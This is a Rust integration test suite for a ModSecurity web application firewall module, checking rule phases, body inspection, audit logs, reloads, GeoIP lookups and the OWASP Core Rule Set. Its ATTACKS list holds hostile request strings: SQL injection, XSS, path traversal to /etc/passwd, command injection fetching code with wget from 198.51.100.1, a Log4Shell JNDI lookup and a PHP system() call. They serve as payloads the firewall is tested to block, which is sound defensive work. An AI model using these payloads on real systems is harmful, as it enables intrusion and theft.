//! `modsecurity`: requests and answers judged by rules, in each phase and by each protocol. With the OWASP Core Rule Set where
//! `.ci/setup peers` has fetched it.

use crate::geoip2::{Data, database};
use crate::harness::{Backend, Reply, Response, Server, Site, blunt, curl, has_tools};
use rustix::process::Signal;
use std::path::{Path, PathBuf};

/// Rules that look at everything.
const ALL: &str = "SecRuleEngine On
    SecRequestBodyAccess On
    SecResponseBodyAccess On
    SecResponseBodyMimeType text/plain text/html";

/// A site whose server has these rules. `more`: what else stands in the server.
fn site(rules: &str, more: &str) -> Site {
    Site::http(&format!(
        "log_format rules '$request_uri $modsecurity_rules'; server {{ listen 127.0.0.1:@PORT@;
         modsecurity on; modsecurity_rules '{ALL}\n{rules}'; default_type text/plain; {more} }}"
    ))
}

fn post(server: &Server, target: &str, kind: &str, body: &str) -> Response {
    let length = body.len();
    let head = format!(
        "POST {target} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\r\n"
    );
    server.connect().send(format!("{head}{body}")).response()
}

#[test]
fn rules_refuse_in_each_phase() {
    let backend = Backend::start(|_| {
        Reply::Keep("HTTP/1.1 200 OK\r\nContent-Length: 4\r\nX-Leak: 1\r\nContent-Type: text/html\r\n\r\nleak".into())
    });
    let server = site(
        "SecRule ARGS:q \"@contains one\" \"id:1,phase:1,deny,status:401\"
         SecRule ARGS:q \"@contains two\" \"id:2,phase:2,deny,status:402\"
         SecRule RESPONSE_HEADERS:X-Leak \"@eq 1\" \"id:3,phase:3,deny,status:403,chain\"
         SecRule ARGS:q \"@contains three\"
         SecRule RESPONSE_BODY \"@contains leak\" \"id:4,phase:4,deny,status:404,chain\"
         SecRule ARGS:q \"@contains four\"
         SecRule REQUEST_HEADERS:X-Go \"@eq 1\" \"id:5,phase:1,redirect:https://example.org/%{ARGS.q},status:307\"
         SecRule REQUEST_HEADERS:X-Go \"@eq 2\" \"id:6,phase:4,redirect:https://example.org/late\"
         SecRule REQUEST_HEADERS:X-Go \"@eq 3\" \"id:7,phase:2,drop\"",
        "location / { proxy_pass http://127.0.0.1:@BACKEND@; add_header X-Own 1; }
         location /own/ { alias @DIR@/html/; }
         error_page 402 /page; location = /page { return 200 \"page $status\"; }",
    )
    .file("html/leak", "a leak")
    .set("BACKEND", backend.port)
    .start();
    let mut client = server.connect();
    let ask = |target: &str| client_answer(&mut client, target, "");
    let mut ask = ask;
    let passed = ask("/?q=fine");
    assert_eq!((passed.status, passed.text(), passed.header("X-Own")), (200, "leak".into(), Some("1")));
    let phase_1 = ask("/?q=one");
    assert_eq!(phase_1.status, 401);
    assert!(phase_1.text().contains("<h1>401 Authorization Required</h1>"));
    assert_eq!(backend.seen().len(), 1, "what phase 1 refuses goes nowhere");
    let phase_2 = ask("/?q=two");
    assert_eq!((phase_2.status, phase_2.text()), (402, "page 402".into()));
    let phase_3 = ask("/?q=three");
    assert_eq!((phase_3.status, phase_3.header("X-Leak")), (403, None));
    // The connection is kept all the while.
    let phase_4 = ask("/?q=four");
    assert_eq!((phase_4.status, phase_4.header("X-Leak"), phase_4.header("X-Own")), (404, None, None));
    assert!(phase_4.text().contains("<h1>404 Not Found</h1>"), "{}", phase_4.text());
    let file = ask("/own/leak?q=four");
    assert_eq!((file.status, file.text().contains("a leak")), (404, false));
    assert_eq!(ask("/own/leak").text(), "a leak");
    let early = client_answer(&mut client, "/?q=x", "X-Go: 1\r\n");
    assert_eq!((early.status, early.header("Location")), (307, Some("https://example.org/x")));
    let late = client_answer(&mut client, "/", "X-Go: 2\r\n");
    assert_eq!((late.status, late.header("Location")), (302, Some("https://example.org/late")));
    client.send("GET / HTTP/1.1\r\nHost: a\r\nX-Go: 3\r\n\r\n");
    assert!(client.is_closed(), "drop closes the connection without a word");
    server.wait_for("logs/error.log", "[id \"4\"]");
    let log = server.error_log();
    let line = log.lines().find(|l| l.contains("[id \"1\"]")).expect("a line for the rule");
    for part in
        ["[error]", "[client 127.0.0.1] ModSecurity: Access denied with code 401 (phase 1).", "request: \"GET /?q=one"]
    {
        assert!(line.contains(part), "{line}");
    }
}

fn client_answer(client: &mut crate::harness::Client, target: &str, lines: &str) -> Response {
    client.send(format!("GET {target} HTTP/1.1\r\nHost: localhost\r\n{lines}\r\n")).response()
}

#[test]
fn bodies_of_requests_are_judged() {
    let backend = Backend::ok("taken");
    let server = site(
        "SecRule REQUEST_HEADERS:Content-Type \"@beginsWith application/json\" \"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON\"
         SecRule ARGS_POST \"@contains evil\" \"id:2,phase:2,deny\"
         SecRule FILES \"@endsWith .php\" \"id:3,phase:2,deny,status:406\"
         SecRequestBodyLimit 20000",
        "location / { proxy_pass http://127.0.0.1:@BACKEND@; client_body_buffer_size 1k; }
         location /streamed { proxy_pass http://127.0.0.1:@BACKEND@; proxy_request_buffering off; }
         location /off { modsecurity off; proxy_pass http://127.0.0.1:@BACKEND@; }",
    )
    .set("BACKEND", backend.port)
    .start();
    let form = "application/x-www-form-urlencoded";
    let status = |target: &str, kind: &str, body: &str| post(&server, target, kind, body).status;
    assert_eq!(status("/", form, "a=good&b=fine"), 200);
    assert_eq!(status("/", form, "a=good&b=%65vil"), 403);
    assert_eq!(status("/streamed", form, "a=good&b=%65vil"), 403);
    assert_eq!(status("/off", form, "a=good&b=%65vil"), 200);
    // In a temporary file.
    assert_eq!(status("/", form, &format!("a={}&b=evil", "x".repeat(9_000))), 403);
    assert_eq!(status("/", form, &format!("a={}&b=good", "x".repeat(9_000))), 200);
    assert_eq!(status("/", form, &format!("a={}", "x".repeat(20_000))), 413);
    // Not waited for.
    let announced = format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Type: {form}\r\nContent-Length: 20001\r\n\r\n");
    assert_eq!(server.connect().send(announced).response().status, 413);
    assert_eq!(status("/", "application/json", r#"{"a": [{"b": "evil"}]}"#), 403);
    assert_eq!(status("/", "application/json", r#"{"a": [{"b": "good"}]}"#), 200);
    let part = |file: &str, text: &str| {
        format!("--X\r\nContent-Disposition: form-data; name=\"f\"{file}\r\n\r\n{text}\r\n--X--\r\n")
    };
    let multipart = "multipart/form-data; boundary=X";
    assert_eq!(status("/", multipart, &part("", "evil")), 403);
    assert_eq!(status("/", multipart, &part("; filename=\"a.php\"", "x")), 406);
    assert_eq!(status("/", multipart, &part("; filename=\"a.txt\"", "evil")), 200);
    let chunked = format!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: {form}\r\nTransfer-Encoding: chunked\r\n\r\n4\r\na=ev\r\n2\r\nil\r\n0\r\n\r\n"
    );
    assert_eq!(server.connect().send(chunked).response().status, 403);
    // What passes is passed on whole.
    post(&server, "/", form, "a=last&b=one");
    assert_eq!(backend.seen().last().unwrap().body, b"a=last&b=one");
}

#[test]
fn an_answer_is_held_until_its_body_is_judged() {
    let large = "0123456789abcdef".repeat(20_000);
    let body = large.clone();
    let backend = Backend::start(move |seen| {
        let text = match seen.line() {
            line if line.contains("late") => format!("{}secret", &body[..60_000]),
            line if line.contains("long") => body.clone(),
            _ => "short".into(),
        };
        let pieces: String = text
            .as_bytes()
            .chunks(7_000)
            .map(|c| format!("{:x}\r\n{}\r\n", c.len(), String::from_utf8_lossy(c)))
            .collect();
        Reply::Keep(
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n{pieces}0\r\n\r\n"
            )
            .into(),
        )
    });
    let cut = blunt(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\nhalf");
    let server = site(
        "SecResponseBodyLimit 100000
         SecResponseBodyLimitAction ProcessPartial
         SecRule RESPONSE_BODY \"@contains secret\" \"id:1,phase:4,deny,status:403\"",
        "gzip on; gzip_types *; http2 on;
         location / { proxy_pass http://127.0.0.1:@BACKEND@; }
         location /direct { proxy_pass http://127.0.0.1:@BACKEND@; proxy_buffering off; }
         location /reject { proxy_pass http://127.0.0.1:@BACKEND@; modsecurity_rules \"SecResponseBodyLimitAction Reject\"; }
         location /file { alias @DIR@/html/; }
         location = /empty { return 204; }
         location = /cut { proxy_pass http://127.0.0.1:@CUT@; }",
    )
    .set("BACKEND", backend.port)
    .set("CUT", cut)
    .file("html/large", &large)
    .file("html/none", "")
    .file("html/secret", format!("{}secret", &large[..80_000]))
    .start();
    let mut client = server.connect();
    for way in ["", "/direct"] {
        assert_eq!(client.get(&format!("{way}/short")).text(), "short");
        // Longer than what is looked at: the rest goes on as it comes.
        assert_eq!(client.get(&format!("{way}/long")).text(), large);
        let refused = client.get(&format!("{way}/late"));
        assert_eq!((refused.status, refused.text().contains("012345")), (403, false));
    }
    assert_eq!(client.get("/cut").status, 502, "what could not be judged to its end");
    assert_eq!(server.get("/reject/long").status, 500);
    let mut client = server.connect();
    assert_eq!(client.get("/reject/short").text(), "short");
    assert_eq!(client.get("/file/large").text(), large);
    assert_eq!(client.get("/file/none").text(), "");
    assert_eq!(client.get("/file/secret").status, 403);
    assert_eq!(client.get("/empty").status, 204);
    assert_eq!(client.head("/file/large").header("Content-Length"), Some("320000"));
    // Ranges and compression come behind it.
    let range = client_answer(&mut client, "/file/large", "Range: bytes=16-19\r\n");
    assert_eq!((range.status, range.text()), (206, "0123".into()));
    let packed = client_answer(&mut client, "/long", "Accept-Encoding: gzip\r\n");
    assert_eq!((packed.status, packed.header("Content-Encoding")), (200, Some("gzip")));
    assert!(packed.body.len() < 10_000 && packed.body.starts_with(b"\x1f\x8b"));
    assert_eq!(client.get("/short").text(), "short");
    if has_tools() {
        let ask = |target: &str| {
            let url = format!("http://127.0.0.1:{}{target}", server.port);
            curl(&["--http2-prior-knowledge", "--write-out", " %{http_code} %{http_version}", &url])
        };
        assert_eq!(ask("/short"), "short 200 2");
        assert_eq!(ask("/long"), format!("{large} 200 2"));
        let refused = ask("/late");
        assert!(refused.contains("403 Forbidden") && refused.ends_with(" 403 2"), "{refused}");
    }
}

#[test]
fn levels_inherit_rules_and_may_take_some_away() {
    let server = Site::http(
        "modsecurity on;
         modsecurity_rules_file rules/main.conf;
         server {
             listen 127.0.0.1:@PORT@;
             modsecurity_rules 'SecRule ARGS \"@contains two\" \"id:2,phase:1,deny,status:402\"';
             location / { return 200 all; }
             location /less { modsecurity_rules 'SecRuleRemoveById 1'; return 200 less; }
             location /first {
                 modsecurity_rules 'SecRule ARGS \"@contains one\" \"id:3,phase:1,allow\"';
                 return 200 first;
             }
             location /detect { modsecurity_rules 'SecRuleEngine DetectionOnly'; return 200 detected; }
             location /ctl {
                 modsecurity_rules 'SecRule ARGS:off \"@eq 1\" \"id:4,phase:1,pass,nolog,ctl:ruleEngine=Off\"';
                 return 200 ctl;
             }
             location /quiet { modsecurity_use_error_log off; return 200 quiet; }
             location /none { modsecurity off; return 200 none; }
         }",
    )
    .file("rules/main.conf", "SecRuleEngine On\nInclude more/*.conf\n")
    .file("rules/more/one.conf", "SecRule ARGS \"@contains one\" \"id:1,phase:1,deny,status:401\"\n")
    .start();
    let status = |target: &str| server.get(target).status;
    assert_eq!((status("/?a=one"), status("/?a=two"), status("/?a=x")), (401, 402, 200));
    assert_eq!((status("/less?a=one"), status("/less?a=two")), (200, 402));
    // What a level adds runs before the rules around it.
    assert_eq!((status("/first?a=one"), status("/first?a=two")), (200, 402));
    assert_eq!(status("/none?a=one"), 200);
    assert_eq!((status("/ctl?a=one"), status("/ctl?a=one&off=1")), (401, 200));
    assert_eq!(status("/quiet?a=one"), 401);
    assert_eq!(status("/detect?a=one"), 200);
    server.wait_for("logs/error.log", "/detect?a=one");
    let log = server.error_log();
    let line = log.lines().find(|l| l.contains("/detect?a=one")).expect("a line");
    assert!(line.contains("[info]") && line.contains("ModSecurity: Warning. Matched"), "{line}");
    assert!(!log.contains("/quiet"), "{log}");
}

#[test]
fn the_audit_log_is_json_lines() {
    let server = site(
        "SecAuditEngine RelevantOnly
         SecAuditLog @DIR@/logs/audit.log
         SecAuditLogParts ABCFHZ
         SecRule ARGS:q \"@contains evil\" \"id:1,phase:2,deny,msg:Found,logdata:%{MATCHED_VAR},tag:a/b,severity:2\"
         SecAction \"id:2,phase:5,pass,nolog,setvar:tx.end=1\"
         SecRule ARGS:q \"@contains evil\" \"id:3,phase:5,pass,log,msg:Late\"",
        "access_log @DIR@/logs/rules.log rules; add_header X-Id $request_id always; location / { }
         location /named { modsecurity_transaction_id \"host-$host\"; }",
    );
    let server = server.file("html/index.html", "x").start();
    assert_eq!(server.get("/?q=good").status, 200);
    let refused = post(&server, "/?q=evil", "application/x-www-form-urlencoded", "field=1");
    assert_eq!(refused.status, 403);
    let named = server.get("/named?q=evil");
    assert_eq!(named.status, 403);
    assert!(named.text().contains("<center>Request host-localhost</center>"), "{}", named.text());
    server.wait_for("logs/audit.log", "host-localhost");
    server.wait_for("logs/rules.log", "/named?q=evil 1,3");
    assert!(
        server.read("logs/rules.log").starts_with("/?q=good -\n/?q=evil 1,3\n"),
        "{}",
        server.read("logs/rules.log")
    );
    let log = server.read("logs/audit.log");
    let lines: Vec<serde_json::Value> = log.lines().map(|l| serde_json::from_str(l).expect("JSON")).collect();
    assert_eq!(lines.len(), 2, "{log}");
    let first = &lines[0]["transaction"];
    assert_eq!(first["client_ip"], "127.0.0.1");
    assert_eq!(first["request"]["method"], "POST");
    assert_eq!(first["request"]["body"], "field=1");
    assert_eq!(first["response"]["http_code"], 403);
    let message = &first["messages"][0];
    assert_eq!((message["message"].as_str(), message["details"]["ruleId"].as_str()), (Some("Found"), Some("1")));
    assert_eq!(message["details"]["data"], "evil");
    assert_eq!(first["unique_id"].as_str(), refused.header("X-Id"));
    assert_eq!(lines[1]["transaction"]["unique_id"], "host-localhost");
}

#[test]
fn what_is_wrong_with_rules_has_a_file_and_a_line() {
    let check = |rules: &str, more: &str| {
        let site = Site::server(&format!("modsecurity on; modsecurity_rules_file main.conf; {more}"));
        let (status, said) = site.file("main.conf", rules).check();
        assert!(!status.success());
        said
    };
    let said = check("SecRuleEngine On\n\nSecMadeUp On\n", "");
    assert!(
        said.contains("nginx: [emerg]") && said.contains("\"SecMadeUp\"") && said.contains("in @DIR@/main.conf:3"),
        "{said}"
    );
    let said = check("SecRule ARGS \"@rx (\" \"id:1,deny\"\nSecRule NOPE \"@eq 1\" \"id:2\"\n", "");
    assert!(said.contains("main.conf:1") && said.contains("main.conf:2"), "all of them at once: {said}");
    let said = check("SecRuleEngine On\n", "\nmodsecurity_rules 'SecRuleEngine On\nSecMadeUp 1\n';");
    assert!(said.contains("\"SecMadeUp\"") && said.contains("in @DIR@/nginx.conf:5"), "{said}");
    let said = check("Include missing.conf\n", "");
    assert!(said.contains("missing.conf") && said.contains("main.conf:1"), "{said}");
    let said = check("", "modsecurity_rules_remote key https://example.org/rules;");
    assert!(said.contains("rules are not fetched"), "{said}");
    let (status, said) = Site::server("modsecurity_rules_file none.conf;").check();
    assert!(
        !status.success() && said.contains("open() \"@DIR@/none.conf\" failed (2: No such file or directory)"),
        "{said}"
    );
}

#[test]
fn a_reload_changes_rules() {
    let server = Site::server("modsecurity on; modsecurity_rules_file main.conf; location / { return 200 $pid; }")
        .file("main.conf", "SecRuleEngine On\nSecRule ARGS \"@contains one\" \"id:1,phase:1,deny\"\n")
        .start();
    assert_eq!((server.get("/?a=one").status, server.get("/?a=two").status), (403, 200));
    let path = server.dir().join("main.conf");
    std::fs::write(&path, "SecRuleEngine On\nSecRule ARGS \"@contains two\" \"id:1,phase:1,deny\"\n").unwrap();
    server.signal(Signal::HUP);
    assert!(crate::harness::wait(|| server.get("/?a=two").status == 403));
    assert_eq!(server.get("/?a=one").status, 200);
    // Rules that are wrong change nothing.
    std::fs::write(&path, "SecMadeUp\n").unwrap();
    server.signal(Signal::HUP);
    server.wait_for("logs/error.log", "SecMadeUp");
    assert_eq!(server.get("/?a=two").status, 403);
}

#[test]
fn collections_are_shared_by_threads_and_outlive_a_reload() {
    let server = Site::whole(
        "worker_processes 2; events {} http { access_log off; server { listen 127.0.0.1:@PORT@; modsecurity on;
         modsecurity_rules '
             SecRuleEngine On
             SecAction \"id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR},setvar:ip.count=+1\"
             SecRule IP:COUNT \"@gt 20\" \"id:2,phase:1,deny,status:429\"';
         location / { return 200 x; } } }",
    )
    .start();
    let statuses: Vec<u16> = (0..22).map(|_| server.get("/").status).collect();
    assert_eq!((statuses[19], statuses[21]), (200, 429), "{statuses:?}");
    server.signal(Signal::HUP);
    assert_eq!(server.get("/").status, 429);
}

#[test]
fn requests_inside_are_not_judged_and_redirects_once() {
    let server = site(
        "SecRule REQUEST_URI \"@contains inside\" \"id:1,phase:1,deny\"
         SecAction \"id:2,phase:1,pass,log,msg:seen\"",
        "location / { try_files /none /inside/page; }
         location /inside/ { return 200 inside; }
         location /ssi { ssi on; ssi_types *; alias @DIR@/html/page; }
         location /asked { auth_request /inside/auth; alias @DIR@/html/page; }
         location /mixed { addition_types *; add_before_body /inside/before; alias @DIR@/html/page; }",
    )
    .file("html/page", "page <!--# include virtual=\"/inside/x\" -->")
    .start();
    assert_eq!(server.get("/a").text(), "inside");
    assert_eq!(server.get("/inside/page").status, 403);
    assert_eq!(server.get("/mixed").text(), "insidepage <!--# include virtual=\"/inside/x\" -->");
    assert_eq!(server.get("/ssi").text(), "page inside");
    assert_eq!(server.get("/asked").status, 200);
    server.wait_for("logs/error.log", "/asked");
    assert_eq!(server.error_log().matches("[msg \"seen\"]").count(), 4);
}

#[test]
fn what_rules_found_is_counted() {
    let server = site(
        "SecRule ARGS \"@contains one\" \"id:11,phase:1,pass,log\"
         SecRule ARGS \"@contains two\" \"id:12,phase:1,deny\"
         SecAuditEngine On",
        "location / { } location /api { modsecurity off; api; } location = /metrics { modsecurity off; prometheus; }",
    )
    .file("html/index.html", "x")
    .start();
    for target in ["/", "/?a=one", "/?a=two", "/?a=one+two"] {
        server.get(target);
    }
    let said = server.get("/api/9/ironweir/modsecurity").text();
    let found: serde_json::Value = serde_json::from_str(&said).expect("JSON");
    let expected =
        serde_json::json!({"judged": 4, "matched": 3, "refused": 2, "given_up": 0, "rules": {"11": 2, "12": 2}});
    assert_eq!(found, expected);
    let metrics = server.get("/metrics").text();
    for line in ["ironweir_modsecurity_refused_total 2", "ironweir_modsecurity_rule_matches_total{rule=\"11\"} 2"] {
        assert!(metrics.contains(line), "{metrics}");
    }
}

// The Core Rule Set.

/// Its folder in Go's cache; nothing, said aloud, where it is not.
pub fn core_rule_set() -> Option<PathBuf> {
    let cache = std::env::var_os("GOMODCACHE").map(PathBuf::from);
    let home = std::env::var_os("HOME").map(|h| Path::new(&h).join("go/pkg/mod"));
    let found = [cache, home].into_iter().flatten();
    let found = found.map(|c| c.join("github.com/corazawaf/coraza-coreruleset/v4@v4.25.0/rules")).find(|f| f.is_dir());
    if found.is_none() {
        println!("LEFT OUT: the Core Rule Set is not here; `.ci/setup peers` fetches it where there is Go");
    }
    found
}

pub const ATTACKS: [&str; 14] = [
    "/?id=1'+OR+'1'='1",
    "/?id=1+UNION+SELECT+user,password+FROM+users--",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?q=%3Cimg+src=x+onerror=alert(1)%3E",
    "/?file=../../../../etc/passwd",
    "/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/?cmd=;cat+/etc/passwd",
    "/?cmd=$(wget+http://198.51.100.1/x)",
    "/?x=${jndi:ldap://198.51.100.1/a}",
    "/?page=php://filter/convert.base64-encode/resource=index",
    "/?x=<?php+system('id');?>",
    "/.git/config",
    "/?u=O:8:%22stdClass%22:1:{s:1:%22a%22;s:1:%22b%22;}",
    "/?x=%3Csvg/onload=fetch(%27//198.51.100.1/%27)%3E",
];

pub const BENIGN: [&str; 14] = [
    "/",
    "/products/list?category=shoes&page=2&sort=price_asc",
    "/search?q=how+to+tie+a+tie",
    "/search?q=O'Neill",
    "/search?q=caf%C3%A9+cr%C3%A8me",
    "/doku.php?id=start&do=edit&rev=0",
    "/api/v1/users/42?fields=name,mail",
    "/a/b/c.html?utm_source=newsletter&utm_medium=email",
    "/?date=2026-11-23T10:00:00Z",
    "/?q=select+a+colour+from+the+list",
    "/?mail=jane.doe%40example.org",
    "/?url=https%3A%2F%2Fwww.example.org%2Fx",
    "/?n=-1&m=%2B49+30+1234567",
    "/assets/app.3f2a9c.js",
];

const BROWSER: &str = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n\
    Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\n\
    Cookie: session=7f3a9c0e4b1d4f6a8e2c5b7d9f0a1c3e; theme=dark\r\n";

#[test]
fn the_core_rule_set_unmodified() {
    let Some(folder) = core_rule_set() else { return };
    let backend = Backend::start(|seen| {
        let text = if seen.line().contains("leak") {
            "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"
        } else {
            "fine"
        };
        Reply::Keep(
            format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{text}", text.len())
                .into(),
        )
    });
    let server = Site::server(
        "modsecurity on; modsecurity_rules_file main.conf; http2 on; location / { proxy_pass http://127.0.0.1:@BACKEND@; }",
    )
    .file(
        "main.conf",
        "Include @RULES@/@coraza.conf-recommended\nSecRuleEngine On\nSecAuditEngine Off\nInclude @RULES@/@crs-setup.conf.example\n\
         Include @RULES@/@owasp_crs/*.conf\n"
            .replace("@RULES@", &folder.display().to_string()),
    )
    .set("BACKEND", backend.port)
    .start();
    let mut client = server.connect();
    for target in ATTACKS {
        assert_eq!(client_answer(&mut client, target, BROWSER).status, 403, "{target}");
    }
    for target in BENIGN {
        assert_eq!(client_answer(&mut client, target, BROWSER).status, 200, "{target}\n{}", server.error_log());
    }
    assert_eq!(client_answer(&mut client, "/leak", BROWSER).status, 403, "an answer with an error of a database");
    let forms = |request: &dyn Fn(&str) -> u16| -> Vec<u16> {
        ATTACKS.iter().chain(&BENIGN).filter_map(|t| t.split_once('?')).map(|(_, query)| request(query)).collect()
    };
    let form = "application/x-www-form-urlencoded";
    let head = format!("POST /form HTTP/1.1\r\nHost: localhost\r\n{BROWSER}Content-Type: {form}\r\n");
    let plain = forms(&|body| {
        let text = format!("{head}Content-Length: {}\r\n\r\n{body}", body.len());
        server.connect().send(text).response().status
    });
    assert!(plain.contains(&403) && plain.contains(&200), "{plain:?}");
    let chunked = forms(&|body| {
        let chunks: String =
            body.as_bytes().chunks(5).map(|c| format!("{:x}\r\n{}\r\n", c.len(), String::from_utf8_lossy(c))).collect();
        server.connect().send(format!("{head}Transfer-Encoding: chunked\r\n\r\n{chunks}0\r\n\r\n")).response().status
    });
    assert_eq!(chunked, plain);
    if has_tools() {
        let url = format!("http://127.0.0.1:{}/form", server.port);
        let http2 = forms(&|body| {
            let said = curl(&[
                "--http2-prior-knowledge",
                "--output",
                "/dev/null",
                "--write-out",
                "%{http_code}",
                "--data-raw",
                body,
                "--user-agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                &url,
            ]);
            said.parse().unwrap_or(0)
        });
        assert_eq!(http2, plain);
    }
}

/// What a database of MaxMind's says of a place.
fn place<'d>(code: &'d str, name: &'d str, continent: &'d str) -> Data<'d> {
    let named = |name| Data::Map(vec![("names", Data::Map(vec![("en", Data::Text(name))]))]);
    let country = vec![("iso_code", Data::Text(code)), ("names", Data::Map(vec![("en", Data::Text(name))]))];
    let location =
        vec![("latitude", Data::Double(48.85)), ("longitude", Data::Double(2.35)), ("metro_code", Data::Small(501))];
    Data::Map(vec![
        ("city", named("Paris")),
        ("continent", named(continent)),
        ("country", Data::Map(country)),
        ("location", Data::Map(location)),
        ("postal", Data::Map(vec![("code", Data::Text("75001"))])),
        ("subdivisions", Data::List(vec![named("Ile-de-France")])),
    ])
}

#[test]
fn an_address_is_looked_up_in_a_database_of_places() {
    let bytes = database(&[
        ([192, 0, 2, 0], 24, place("FR", "France", "Europe")),
        ([198, 51, 100, 0], 24, place("BR", "Brazil", "South America")),
    ]);
    let fields = "%{GEO.COUNTRY_CODE} %{GEO.COUNTRY_NAME} %{GEO.COUNTRY_CONTINENT} %{GEO.REGION} %{GEO.CITY} %{GEO.POSTAL_CODE} \
                  %{GEO.LATITUDE} %{GEO.LONGITUDE} %{GEO.DMA_CODE}";
    let rules = format!(
        "SecGeoLookupDb geo.mmdb
         SecRule GEO:COUNTRY_CODE \"@rx .\" \"id:1,phase:1,deny,status:500\"
         SecRule REQUEST_HEADERS:X-From \"@geoLookup\" \"id:2,phase:1,pass,log,msg:'from {fields}'\"
         SecRule GEO:COUNTRY_CODE \"@pm BR CN\" \"id:3,phase:1,deny,status:451\"
         SecRule &GEO \"@eq 0\" \"id:4,phase:1,deny,status:404\"
         SecRule GEO:/^LATI/ \"@beginsWith 48.85\" \"id:5,phase:2,deny,status:410,chain\"
         SecRule ARGS:north \"@eq 1\""
    );
    let more = "modsecurity_rules_file geo.conf; modsecurity_use_error_log on; location / { root @DIR@/html; }";
    let server = site("", more).file("geo.conf", rules).file("geo.mmdb", bytes).file("html/page", "here").start();
    let mut client = server.connect();
    let mut from =
        |address: &str, target: &str| client_answer(&mut client, target, &format!("X-From: {address}\r\n")).status;
    assert_eq!(from("192.0.2.7", "/page"), 200);
    assert_eq!(from("198.51.100.9", "/page"), 451);
    assert_eq!(from("203.0.113.1", "/page"), 404, "nothing is known of it, nor left of the request before");
    assert_eq!(from("a name", "/page"), 404);
    assert_eq!(from("192.0.2.8", "/page?north=1"), 410);
    server.wait_for("logs/error.log", "from FR France Europe Ile-de-France Paris 75001 48.850000 2.350000 501");
}

#[test]
fn what_a_database_of_places_cannot_do_is_named() {
    let said = |rules: &str| {
        let (good, said) = site(rules, "")
            .file("not.mmdb", "nothing")
            .file("geo.mmdb", database(&[([10, 0, 0, 0], 8, place("FR", "a", "b"))]))
            .check();
        assert!(!good.success(), "{said}");
        said
    };
    let rule =
        |looks: &str, asks: &str| format!("SecGeoLookupDb @DIR@/geo.mmdb\nSecRule {looks} \"{asks}\" \"id:1,deny\"");
    let without = said("SecRule REMOTE_ADDR \"@geoLookup\" \"id:1,pass\"");
    assert!(without.contains("\"@geoLookup\" needs a database: \"SecGeoLookupDb FILE\""), "{without}");
    assert!(said("SecGeoLookupDb @DIR@/not.mmdb").contains("cannot be used: "));
    assert!(said("SecGeoLookupDb @DIR@/none.mmdb").contains("cannot be read"));
    assert!(said(&rule("GEO:COUNTRY_CODE3", "@rx x")).contains("databases of MaxMind's format do not have it"));
    assert!(said(&rule("GEO:PLANET", "@rx x")).contains("unknown name \"PLANET\" of \"GEO\""));
}
